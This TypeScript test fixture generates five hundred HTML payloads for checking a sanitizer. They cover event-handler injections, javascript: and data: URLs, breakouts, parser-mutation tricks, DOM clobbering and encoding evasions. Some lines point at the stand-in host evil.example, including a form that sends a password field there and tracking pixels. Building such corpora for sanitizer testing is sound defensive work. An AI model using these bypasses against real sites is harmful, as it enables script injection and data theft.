import fc from 'fast-check';

/*
 * HTML that tries to run `hit()` or to open a dialog: the known families of filter bypasses, each in its variants, and random markup made
 * of dangerous parts. Deterministic.
 */

const SEED = 20_261_121;
const WANTED = 500;

/** Returns five hundred distinct payloads. */
export function scriptPayloads(): readonly string[] {
  const known = [...new Set([...handlers(), ...addresses(), ...breakouts(), ...mutations(), ...containers(), ...encodings()])];
  const random = fc.sample(markup(), { numRuns: WANTED, seed: SEED }).filter((html) => !known.includes(html));
  return [...known, ...new Set(random)].slice(0, WANTED);
}

const CALLS = ['hit()', 'alert(1)', 'hit`1`', "top['hit']()", 'self.hit(document.domain)'];

/** Events that fire without interaction, then those that need a touch. */
function handlers(): string[] {
  const elements = [
    '<img src=x onerror=@>',
    '<img src=/art/logo.svg onload=@>',
    '<svg onload=@></svg>',
    '<svg><image href=x onerror=@></svg>',
    '<svg><animate onbegin=@ attributeName=x dur=1s>',
    '<svg><set onbegin=@ attributename=x>',
    '<body onload=@>',
    '<body onpageshow=@>',
    '<input onfocus=@ autofocus>',
    '<select onfocus=@ autofocus></select>',
    '<textarea onfocus=@ autofocus></textarea>',
    '<button onfocus=@ autofocus>a</button>',
    '<details open ontoggle=@>a</details>',
    '<video src=x onerror=@></video>',
    '<video><source onerror=@></video>',
    '<audio src=x onerror=@></audio>',
    '<marquee onstart=@>a</marquee>',
    '<iframe onload=@></iframe>',
    '<object data=x onerror=@></object>',
    '<embed src=x onerror=@>',
    '<style onload=@></style>',
    '<link rel=stylesheet href=x onerror=@>',
    '<p style="animation:a 1s" onanimationstart=@>a</p>',
    '<div contenteditable onfocus=@ autofocus tabindex=1>a</div>',
    '<a href=/m/help onclick=@>a</a>',
    '<p onmouseover=@>a</p>',
    '<p onpointerenter=@>a</p>',
    '<li onwheel=@>a</li>',
    '<table onscroll=@><tr><td onmouseenter=@>a</td></tr></table>',
    '<strong oncontentvisibilityautostatechange=@ style="content-visibility:auto">a</strong>',
  ];
  const written = elements.flatMap((html) => CALLS.slice(0, 3).map((call) => html.replaceAll('@', call)));
  const img = (between: string) => `<img${between}src=x${between}onerror=hit()>`;
  return [
    ...written,
    ...['/', '\t', '\n', '\f', '\r', ' / ', '//', '\u00a0'].map(img),
    '<IMG SRC=x OnErRoR=hit()>',
    '<img src=x onerror="hit()"',
    '<img src=x onerror=hit() //',
    '<img src=x: onerror\n=\nhit()>',
    '<img """><img src=x onerror=hit()>">',
    '<img src="x` `<script>hit()</script>"` `>',
    '<<img src=x onerror=hit()>',
    '<img src=x onerror=hit()><p>depois</p>',
    '<img/onerror=hit()/src=x>',
    "<img src=x onerror='&#104;it()'>",
    '<img src=x onerror=\\u0068it()>',
  ];
}

/** URLs that run scripts. */
function addresses(): string[] {
  const schemes = [
    'javascript:@',
    'JaVaScRiPt:@',
    ' javascript:@',
    '\u0001javascript:@',
    'java\tscript:@',
    'java\nscript:@',
    'java\rscript:@',
    'java&Tab;script&colon;@',
    'java&NewLine;script:@',
    '&#106;avascript:@',
    '&#x6A;&#x61;vascript&#58;@',
    '&#0000106avascript:@',
    'javascript://%0a@',
    'javascript:/*--></title></style></textarea></script>*/@',
    'javascript:"/*\'/*`/*--><html \\" onmouseover=/*&lt;svg/*/onload=@//>',
    'vbscript:msgbox(1)',
    'data:text/html,<script>@</script>',
    'data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="@"/>',
    'blob:https://jogada.example/1',
    'feed:javascript:@',
    'view-source:javascript:@',
    'jar:javascript:@!',
    '//evil.example/x',
    '/\\evil.example/x',
    '\\\\evil.example\\x',
    '/\t/evil.example',
    'https:evil.example',
    'https://jogada.example@evil.example/',
    'http://evil.example#javascript:@',
  ];
  const places = ['<a href="@">a</a>', "<a href='@'>a</a>", '<img src="@">', '<a xlink:href="@">a</a>'];
  return schemes.flatMap((scheme) =>
    places.map((place, index) => place.replace('@', scheme.replaceAll('@', index % 2 === 0 ? 'hit()' : 'alert(1)'))),
  );
}

/** Breakouts from an attribute, a comment or raw text. */
function breakouts(): string[] {
  const attack = '<img src=x onerror=hit()>';
  return [
    `"><script>hit()</script>`,
    `'><script>hit()</script>`,
    `<p title="">${attack}">a</p>`,
    `<p title='${attack}'>a</p>`,
    `<a href="/m/help" title="\`onmouseover=hit()">a</a>`,
    `<img alt="" onerror=hit() src=x">`,
    `<!--><${attack.slice(1)}-->`,
    `<!--->${attack}-->`,
    `<!--!>${attack}-->`,
    `<!-- --!>${attack}-->`,
    `<!-- <!-- -->${attack}`,
    `<![CDATA[>${attack}]]>`,
    `<?xml version="1.0"?>${attack}`,
    `<?${attack}?>`,
    `</${attack}>`,
    `<//${attack}`,
    `<title></title>${attack}</title>`,
    `<textarea></textarea>${attack}`,
    `<textarea><p title="</textarea>${attack}">`,
    `<title><p title="</title>${attack}">`,
    `<xmp><p title="</xmp>${attack}">`,
    `<noscript><p title="</noscript>${attack}">`,
    `<noembed><p title="</noembed>${attack}">`,
    `<noframes><p title="</noframes>${attack}">`,
    `<iframe><p title="</iframe>${attack}">`,
    `<plaintext>${attack}`,
    `<listing>&lt;img src=x onerror=hit()&gt;</listing>`,
    `<script>hit()</script>`,
    `<script src=/art/x.js></script>`,
    `<script src="data:,hit()"></script>`,
    `<script type=module>hit()</script>`,
    `<scr<script>ipt>hit()</scr</script>ipt>`,
    `<<script>hit();//<</script>`,
    `<script\n>hit()</script\n>`,
    `<script>/*`,
    `<p>a<script>hit()`,
    `<svg><script>hit()</script></svg>`,
    `<svg><script href="data:,hit()"/></svg>`,
    `<math><script>hit()</script></math>`,
    `<SCRIPT>hit()</SCRIPT>`,
    `<script/x>hit()</script>`,
    `<script>hit()</script/x>`,
  ];
}

/** Mutation payloads: markup that two parsers read differently. */
function mutations(): string[] {
  const attack = '<img src=x onerror=hit()>';
  const escaped = '&lt;img src=x onerror=hit()&gt;';
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escaped}">`,
    `<math><mtext><table><mglyph><style><math><table id="</style>${attack}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${attack}`,
    `<svg></p><style><a id="</style>${attack}">`,
    `<svg><p><style><a id="</style>${attack}"></p></svg>`,
    `<math><annotation-xml encoding="text/html"><style>${attack}</style></annotation-xml></math>`,
    `<svg><foreignObject><p><style>${attack}</style></p></foreignObject></svg>`,
    `<svg><desc><table><thead><s>a<style>${attack}</style>`,
    `<svg><title><style>${attack}</style></title></svg>`,
    `<math><mi><style>${attack}</style></mi></math>`,
    `<table><tr><td><svg><style><a title="</style>${attack}">`,
    `<select><template><style>${attack}</style></template></select>`,
    `<template><p title="</template>${attack}">`,
    `<template shadowrootmode=open>${attack}</template>`,
    `<table><math><select><mo><style>${attack}`,
    `<p><svg><p>${attack}`,
    `<a><b><a><b><a href="javascript:hit()">a`,
    `<form id=a><input form=a formaction=javascript:hit() type=submit>`,
    `<svg><style>&lt;/style&gt;${escaped}</style></svg>`,
    `<svg><style><img src=x onerror=hit()></style></svg>`,
    `<noscript><style></noscript>${attack}</style>`,
    `<option><style></option></select>${attack}</style></option>`,
    `<svg><![CDATA[</svg>${attack}]]></svg>`,
    `<math><![CDATA[<mi>]]>${attack}</math>`,
    `<div><p>${'<div>'.repeat(60)}${attack}`,
    `${'<b>'.repeat(200)}${attack}`,
    `<table>${attack}<tr>${attack}<td>${attack}</table>`,
    `<li><table><li>${attack}</table>`,
    `<ul><script></ul>hit()</script>`,
    `<p>${escaped}</p>`,
    `<p>&amp;lt;img src=x onerror=hit()&amp;gt;</p>`,
    `<svg><a xlink:href="javascript:hit()"><text y=20>a</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='hit()'/>#x"></svg>`,
    `<math href="javascript:hit()">a</math>`,
    `<math><maction actiontype="statusline#" xlink:href="javascript:hit()">a</maction></math>`,
  ];
}

/** Elements that load, navigate or submit by themselves, and names that clobber DOM properties. */
function containers(): string[] {
  return [
    '<iframe src="javascript:top.hit()"></iframe>',
    '<iframe srcdoc="<script>top.hit()</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=top.hit()&gt;"></iframe>',
    '<object data="javascript:top.hit()"></object>',
    '<object data="data:text/html,<script>top.hit()</script>"></object>',
    '<embed src="javascript:top.hit()">',
    '<embed src="data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=">',
    '<frameset onload=hit()><frame src="javascript:top.hit()"></frameset>',
    '<meta http-equiv=refresh content="0;url=javascript:hit()">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=import href="data:text/html,<script>hit()</script>">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<form action="javascript:hit()"><button autofocus>a</button></form>',
    '<form action="https://evil.example"><input name=password><button>a</button></form>',
    '<button formaction="javascript:hit()">a</button>',
    '<isindex action="javascript:hit()" type=image>',
    '<input type=image src=x onerror=hit()>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>*{background:url("https://evil.example/x")}</style>',
    '<p style="background:url(https://evil.example/x)">a</p>',
    '<p style="width:expression(hit())">a</p>',
    '<p style="position:fixed;inset:0;z-index:9999">a</p>',
    '<p class="fixed inset-0 z-60">a</p>',
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 1x">',
    '<img src=x usemap=#m><map name=m><area shape=default href="javascript:hit()"></map>',
    '<p background="https://evil.example/x">a</p>',
    '<table background="javascript:hit()"><tr><td background="https://evil.example/x">a</td></tr></table>',
    '<a id=hit name=hit href="/m/help">a</a>',
    '<img name=body src=/art/logo.svg>',
    '<form name=querySelector><input name=createElement></form>',
    '<a href="https://evil.example" target=_blank rel=opener>a</a>',
    '<a href="/m/help" ping="https://evil.example">a</a>',
    '<a href="/m/help" download>a</a>',
    '<audio autoplay src="https://evil.example/x.mp3"></audio>',
    '<video poster="https://evil.example/x.png"></video>',
    '<bgsound src="javascript:hit()">',
    '<layer src="https://evil.example/x"></layer>',
    '<x-element onclick=hit()>a</x-element>',
    '<dialog open onclose=hit()><form method=dialog><button autofocus>a</button></form></dialog>',
    '<p popover id=p>a</p><button popovertarget=p onclick=hit()>a</button>',
    '<portal src="https://evil.example"></portal>',
  ];
}

function encodings(): string[] {
  return [
    '+ADw-script+AD4-hit()+ADw-/script+AD4-',
    '¼script¾hit()¼/script¾',
    '＜script＞hit()＜/script＞',
    '<scrıpt>hit()</scrıpt>',
    '<ſcript>hit()</ſcript>',
    '<img src=x onerror=hit&lpar;&rpar;>',
    '<img src=x on\u0131error=hit()>',
    '%3Cscript%3Ehit()%3C/script%3E',
    '\\x3cscript\\x3ehit()\\x3c/script\\x3e',
    '<a href="java\u00adscript:hit()">a</a>',
    '<a href="\u200bjavascript:hit()">a</a>',
    '<a href="\u2028javascript:hit()">a</a>',
    '<a href="\ufeffjavascript:hit()">a</a>',
    '<p>\u202etxet\u202c</p><img src=x onerror=hit()>',
    '<img src=x onerror=hit() title="日本語">',
  ];
}

/** Random markup of dangerous parts, nested and closed at random. */
function markup(): fc.Arbitrary<string> {
  const tag = fc.constantFrom(...TAGS);
  const attribute = fc
    .tuple(fc.constantFrom(...ATTRIBUTES), fc.constantFrom(...VALUES), fc.constantFrom('"', "'", ''))
    .map(([name, value, quote]) => `${name}=${quote}${value}${quote}`);
  const piece = fc.oneof(
    {
      weight: 4,
      arbitrary: fc.tuple(tag, fc.array(attribute, { maxLength: 3 })).map(([name, attributes]) => `<${[name, ...attributes].join(' ')}>`),
    },
    { weight: 2, arbitrary: tag.map((name) => `</${name}>`) },
    { weight: 1, arbitrary: fc.constantFrom('<!--', '-->', '<![CDATA[', ']]>', '<', '>', '"', '`', '&lt;', 'a', 'hit()') },
  );
  return fc.array(piece, { minLength: 2, maxLength: 9 }).map((pieces) => `${pieces.join('')}<img src=x onerror=hit()>`);
}

const TAGS = [
  'p',
  'a',
  'img',
  'svg',
  'math',
  'style',
  'script',
  'table',
  'td',
  'select',
  'template',
  'noscript',
  'title',
  'form',
  'mglyph',
  'mtext',
  'iframe',
  'li',
  'b',
  'foreignObject',
  'textarea',
];
const ATTRIBUTES = [
  'href',
  'src',
  'onerror',
  'onload',
  'onfocus',
  'style',
  'id',
  'name',
  'xlink:href',
  'srcdoc',
  'alt',
  'title',
  'autofocus',
  'formaction',
];
const VALUES = [
  'hit()',
  'javascript:hit()',
  'x',
  '/m/help',
  '</style><img src=x onerror=hit()>',
  '&quot;><img src=x onerror=hit()>',
  'data:text/html,<script>hit()</script>',
  '//evil.example',
];
